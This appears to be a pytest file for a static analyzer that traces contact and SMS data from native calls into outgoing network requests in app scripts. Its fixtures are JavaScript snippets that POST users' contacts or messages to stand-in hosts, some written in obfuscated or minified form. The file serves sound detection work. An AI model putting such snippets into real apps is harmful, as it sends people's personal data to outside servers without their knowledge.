"""What a call gives is followed through a script into a request, and nothing else is."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from facts.scripts.flow.following import PLUGIN, followed, sends
from hypothesis import given, settings
from hypothesis import strategies as st

from permaudit.facts.scripts.flow.following import Asked

POST = 'fetch("https://api.example.com/x", {method: "POST", body: %s});'
NODE_STYLE = Asked(("NativeModules.Sms",), frozenset({"Sms"}), frozenset({"list"}))

SCRIPTS = yaml.safe_load(Path(__file__).with_name("scripts.yaml").read_text(encoding="utf-8"))
SENT: dict[str, str] = SCRIPTS["sent"]
KEPT: dict[str, str] = SCRIPTS["kept"]
COMPILED: dict[str, dict[str, str]] = SCRIPTS["compiled"]


@pytest.mark.parametrize("script", SENT.values(), ids=SENT)
def test_people_that_go_into_a_request_are_seen_going(script: str) -> None:
    assert sends(script, PLUGIN if "Native" not in script else None)


@pytest.mark.parametrize("script", KEPT.values(), ids=KEPT)
def test_a_request_that_people_do_not_get_into_is_not_said_to_have_them(script: str) -> None:
    assert not sends(script)


@pytest.mark.parametrize("compiled", COMPILED.values(), ids=COMPILED)
def test_what_compilers_make_of_async_gives_each_value_to_the_case_that_waits_for_it(compiled: dict[str, str]) -> None:
    assert sends(compiled["script"] % compiled["people"])
    assert not sends(compiled["script"] % compiled["rates"])


@pytest.mark.parametrize(
    ("script", "hosts"),
    [
        (POST % "Native.people()", {"api.example.com"}),
        ('const s = "https://API.example.com"; fetch(s + "/v1", {body: Native.people()})', {"api.example.com"}),
        ('const s = {u: "https://api.example.com/"}; fetch(`${s.u}v1`, {body: Native.people()})', {"api.example.com"}),
        ('fetch("".concat("https://api.example.com", "/v1"), {body: Native.people()})', {"api.example.com"}),
        (
            """function p(u, d) { const x = new XMLHttpRequest();
                x.open("POST", "https://api.example.com" + u); x.send(d) }
            p("/a", 1); p("/b", Native.people())""",
            {"api.example.com"},
        ),
        ('function p(u, d) { fetch(u, {body: d}) } p("https://a.example.com", Native.people()); p(other, 1)', set()),
        ('fetch("/v1", {body: Native.people()})', set()),
        ("fetch(server(), {body: Native.people()})", set()),
        ('fetch("https://api." + name, {body: Native.people()})', set()),
    ],
)
def test_a_server_is_named_where_the_address_is_written_out(script: str, hosts: set[str]) -> None:
    found = followed(script)

    assert found is not None
    assert found.sends
    assert found.hosts == hosts


@pytest.mark.parametrize(
    "script",
    [
        POST % "Other.people()",
        POST % "people()",
        POST % "Native.name",
        "/* Native.people() */ 'Native.people()';",
    ],
)
def test_what_only_looks_like_the_call_is_none(script: str) -> None:
    assert followed(script + "/* Native people */") is None


def test_a_function_of_the_script_with_the_name_of_the_call_is_not_the_plug_in() -> None:
    own = f"class Api {{ getContacts() {{ return 1 }} }} new Api().getContacts().then(x => {{ {POST % 'x'} }})"

    assert followed(own, PLUGIN) is None


def test_an_object_of_another_name_is_another_object() -> None:
    asked = Asked((".getContacts(",), frozenset({"Contacts"}))
    script = "%s.getContacts().then(x => { " + POST % "x" + " })"

    assert followed(script % "this.server", asked) is None
    assert sends(script % "Contacts", asked)
    assert sends(script % 'registerPlugin("Contacts")', asked)
    assert sends(script % "n(3).L", asked)


def test_of_two_functions_the_one_for_failures_gets_nobody() -> None:
    fail, good = "(fail) => { %s }" % (POST % "fail"), "(count, list) => { %s }" % (POST % "list")

    assert sends(f"NativeModules.Sms.list(1, {fail}, {good})", NODE_STYLE)
    assert not sends(f"NativeModules.Sms.list(1, {fail}, show)", NODE_STYLE)


def test_of_two_functions_without_telling_names_none_is_taken_for_the_one_that_gets_people() -> None:
    script = "Native.people(a => { %s }, b => { show(b) })" % (POST % "a")

    assert not sends(script)


@given(st.text(alphabet="(){}[];,.=>+-*/!&|?:`'\"$ab \n", max_size=400))
@settings(max_examples=200, deadline=None)
def test_no_text_makes_following_fail(noise: str) -> None:
    followed(f"{noise}\n{POST % 'Native.people()'}\n{noise}")


@given(st.lists(st.sampled_from([*SENT.values(), *KEPT.values()]), min_size=2, max_size=2), st.integers(0, 400))
@settings(max_examples=100, deadline=None)
def test_no_script_that_is_cut_anywhere_makes_following_fail(scripts: list[str], at: int) -> None:
    followed(scripts[0][:at] + scripts[1][at // 2 :])


TAKEN = Asked((".getAll;", ".getAll,"), frozenset({"Contacts"}), frozenset({"getAll"}))


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("var n = r(d[2]).default.getAll; n().then(x => fetch('https://x.example', {body: x}))", True),
        ("var n = Contacts.getAll, o = 1; n().then(x => fetch('https://x.example', {body: x}))", True),
        ("var n = Contacts.getAll; m().then(x => fetch('https://x.example', {body: x}))", False),
        ("var n = Loans.getAll; n().then(x => fetch('https://x.example', {body: x}))", False),
        ("var n = Contacts.getAll; n = other; n().then(x => fetch('https://x.example', {body: x}))", False),
    ],
)
def test_a_method_that_is_taken_out_of_its_object_is_followed_under_its_new_name(script: str, expected: bool) -> None:  # noqa: FBT001
    found = followed(script, TAKEN)

    assert (found is not None and found.sends) == expected
